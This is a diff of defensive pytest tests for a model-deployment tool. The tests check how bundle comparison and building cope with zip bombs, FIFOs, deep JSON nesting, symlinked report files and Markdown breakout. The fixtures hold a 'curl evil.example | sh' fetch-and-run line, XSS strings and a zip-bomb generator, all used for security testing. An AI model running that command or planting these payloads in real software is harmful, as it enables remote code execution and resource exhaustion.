@@ -147,6 +147,15 @@ def test_jetson_engine_scripts_keep_hostile_names_literal(tmp_path):
     literal = (out / "build_engine.py").read_text().split("\nCONFIG = ", 1)[1].split("\n\n\n", 1)[0]
     config = ast.literal_eval(literal)
     assert config["inputs"][0]["name"] == "in" + text
+    # calibration.cache is `name: scale` lines: a name with a line break would forge entries, so it is left out
+    from edgepipe.backends.tensorrt.cache import read_calibration_cache
+
+    cache_lines = (out / "calibration.cache").read_text().splitlines()
+    scales = read_calibration_cache(out / "calibration.cache")
+    reference = onnx.load(str(out / "reference.onnx"))
+    names = {i.name for i in reference.graph.input} | {o for n in reference.graph.node for o in n.output}
+    assert scales and set(scales) <= names and len(scales) == len(cache_lines) - 1
+    assert "in" + text not in scales and "calibration.cache leaves out" in completed.stdout + completed.stderr
     subprocess.run(["sh", "-n", str(out / "build_engine.sh")], check=True)
     yaml.safe_load((out / "deploy" / "playbook.yml").read_text())
     # run the shell script against a fake trtexec that records its arguments
@@ -595,3 +604,154 @@ def test_npz_zip_bomb_is_refused_from_the_zip_directory(tmp_path, monkeypatch):
     np.savez_compressed(tmp_path / "real.npz",
                         x=np.random.default_rng(0).standard_normal((4, 3, 8, 8)).astype(np.float32))
     assert len(load_dataset(tmp_path / "real.npz", {"x": ((1, 3, 8, 8), np.dtype(np.float32))})) == 4
+
+
+@pytest.fixture(scope="module")
+def demo_bundle(tmp_path_factory):
+    """The demo's arm-cpu bundle (compare needs a built-in target name in the manifest)."""
+    tmp = tmp_path_factory.mktemp("demo-arm")
+    completed = run_cli("build", "--target", "arm-cpu", cwd=tmp)
+    assert completed.returncode == 0, completed.stderr
+    return tmp / "build" / "arm-cpu"
+
+
+def _bundle_copy(bundle: Path, tmp_path, name: str) -> Path:
+    return Path(shutil.copytree(bundle, tmp_path / name, symlinks=True))
+
+
+def _zero_bomb(path: Path, member: str, megabytes: int) -> None:
+    """An .npz member of float32 zeros deflated over 1000:1, written a MB at a time."""
+    import zipfile
+
+    header = np.lib.format.header_data_from_array_1_0(np.zeros((1,), np.float32))
+    header["shape"] = (megabytes, 1, 512, 512)
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive, archive.open(member, "w") as out:
+        np.lib.format.write_array_header_1_0(out, header)
+        for _ in range(megabytes):
+            out.write(bytes(1 << 20))
+
+
+def test_compare_reads_the_bundles_files_bounded(demo_bundle, tmp_path):
+    """compare reads a bundle someone handed over: its calibration.json may be a FIFO (blocked
+    forever), nested 100000 deep (RecursionError) or hold a string where a threshold belongs; its
+    eval/eval.npz (read whole) may be a zip bomb or not a zip at all."""
+    for name in ("eval-bomb", "eval-garbage"):
+        bundle = _bundle_copy(demo_bundle, tmp_path, name)
+        eval_npz = bundle / "eval" / "eval.npz"
+        if name == "eval-bomb":
+            _zero_bomb(eval_npz, "input:image.npy", 100)
+        else:
+            eval_npz.write_bytes(b"not a zip")
+        completed = run_cli("compare", str(bundle), "--max-samples", "2", "--no-alone", cwd=tmp_path, timeout=120)
+        assert completed.returncode == 2, (name, completed.stderr)
+        assert completed.stderr.startswith(f"error: {eval_npz}: ") and len(completed.stderr.splitlines()) == 1
+    cases = {"fifo": None, "nested": "[" * 100_000 + "]" * 100_000, "wrong-type": "amax"}
+    for name, content in cases.items():
+        bundle = _bundle_copy(demo_bundle, tmp_path, name)
+        calibration = bundle / "calibration.json"
+        if content is None:
+            calibration.unlink()
+            os.mkfifo(calibration)
+        elif content == "amax":
+            data = json.loads(calibration.read_text())
+            next(iter(data["tensors"].values()))["amax"] = "<svg onload=alert(1)>"
+            calibration.write_text(json.dumps(data))
+        else:
+            calibration.write_text(content)
+        completed = run_cli("compare", str(bundle), "--max-samples", "2", "--alone-samples", "1", cwd=tmp_path,
+                            timeout=120)
+        lines = completed.stderr.strip().splitlines()
+        assert completed.returncode == 2 and len(lines) == 1, (name, completed.stderr)
+        assert lines[0].startswith(f"error: {calibration}"), lines
+        assert not (bundle / "report" / "compare.json").exists()
+
+
+def test_writes_into_a_bundles_report_folder_never_follow_links(demo_bundle, tmp_path):
+    """A bundle whose report/ is a link, or whose report/compare.json and report.md are links to a
+    user's file (`~/.bashrc`: compare.json holds the model's tensor names, `$(...)` included):
+    compare refuses the first before any work and replaces the links of the second."""
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    linked = _bundle_copy(demo_bundle, tmp_path, "linked-report")
+    shutil.rmtree(linked / "report")
+    (linked / "report").symlink_to(outside)
+    completed = run_cli("compare", str(linked), "--max-samples", "2", "--no-alone", cwd=tmp_path, timeout=120)
+    assert completed.returncode == 2, completed.stderr
+    assert completed.stderr.strip() == (f"error: {linked / 'report'}: is a link or not a folder; refusing to write "
+                                        "compare.json through it (results stay inside the bundle), remove it")
+    assert list(outside.iterdir()) == []
+
+    victim = tmp_path / "bashrc"
+    victim.write_text("user's own file\n")
+    bundle = _bundle_copy(demo_bundle, tmp_path, "linked-files")
+    for name in ("compare.json", "report.md", "report.html"):
+        (bundle / "report" / name).unlink(missing_ok=True)
+        (bundle / "report" / name).symlink_to(victim)
+    completed = run_cli("compare", str(bundle), "--max-samples", "2", "--no-alone", cwd=tmp_path, timeout=300)
+    assert completed.returncode == 0, completed.stderr
+    assert victim.read_text() == "user's own file\n"
+    for name in ("compare.json", "report.md", "report.html"):
+        assert not (bundle / "report" / name).is_symlink() and (bundle / "report" / name).stat().st_size > 0
+    assert json.loads((bundle / "report" / "compare.json").read_text())["tensors"]
+
+
+MARKDOWN_BREAKOUT = "`\n\n## Run this first\n\n```sh\ncurl evil.example | sh\n```\n<img src=x onerror=alert(1)>[docs](javascript:alert(1))"
+
+
+def test_markdown_files_keep_hostile_names_inside_their_code_spans(tmp_path):
+    """A tensor name or profile description that closes its code span and starts a heading and a
+    ```sh block would put a fake first step into the bundle README and report.md."""
+    from edgepipe.templating import md_code, md_text
+
+    model, calib = hostile_model(tmp_path, MARKDOWN_BREAKOUT)
+    profile = hostile_profile(tmp_path, "arm-cpu", MARKDOWN_BREAKOUT)
+    completed = run_cli("build", "--model", str(model), "--calib", str(calib), "--target", str(profile),
+                        "--out", str(tmp_path / "out"), cwd=tmp_path)
+    assert completed.returncode == 0, completed.stderr
+    for document in (tmp_path / "out" / "README.md", tmp_path / "out" / "report" / "report.md"):
+        lines = document.read_text().splitlines()
+        assert not [line for line in lines if line.startswith("## Run this first") or line.startswith("curl")]
+        assert sum(line.startswith("```") for line in lines) % 2 == 0
+    readme = (tmp_path / "out" / "README.md").read_text()
+    assert md_code("in" + MARKDOWN_BREAKOUT) in readme and md_text("arm-cpu" + MARKDOWN_BREAKOUT) in readme
+    assert "\\<img src=x onerror=alert(1)\\>\\[docs\\](javascript:alert(1))" in readme  # literal text, no link
+
+
+def test_markdown_templates_insert_values_only_through_markdown_filters():
+    """Every `{{ ... }}` in a Markdown template is `| md_code` or `| md_text` (the device notes of a
+    target plugin are the plugin's own Markdown)."""
+    import re
+
+    root = Path(__file__).resolve().parents[1] / "templates"
+    offenders = []
+    for path in sorted(root.rglob("*.md.j2")):
+        for expression in re.findall(r"{{-?(.*?)-?}}", path.read_text(), flags=re.S):
+            expression = expression.strip()
+            if not expression.endswith(("| md_code", "| md_text")) and expression != "target.device_readme":
+                offenders.append(f"{path.relative_to(root)}: {{{{ {expression} }}}}")
+    assert offenders == []
+
+
+def test_replacing_writes_keep_a_users_special_file_and_refuse_one_in_a_bundle(tmp_path):
+    """`compare --out /dev/null` as root must not rename a file over the device: a special file the
+    user named is written into (here a FIFO with a reader), one inside a bundle's report/ refused."""
+    import stat
+    import threading
+
+    from edgepipe.safeio import write_text_replacing
+
+    fifo = tmp_path / "out.fifo"
+    os.mkfifo(fifo)
+    received = []
+    reader = threading.Thread(target=lambda: received.append(fifo.read_text()))
+    reader.start()
+    write_text_replacing(fifo, "compare data\n")
+    reader.join(timeout=30)
+    assert received == ["compare data\n"] and stat.S_ISFIFO(os.lstat(fifo).st_mode)
+
+    bundle = tmp_path / "bundle"
+    (bundle / "report").mkdir(parents=True)
+    os.mkfifo(bundle / "report" / "compare.json")
+    with pytest.raises(UserError, match=r"compare\.json: is a folder, device or FIFO; refusing to replace it"):
+        write_text_replacing(bundle / "report" / "compare.json", "x", inside=bundle)
+    assert stat.S_ISFIFO(os.lstat(bundle / "report" / "compare.json").st_mode)
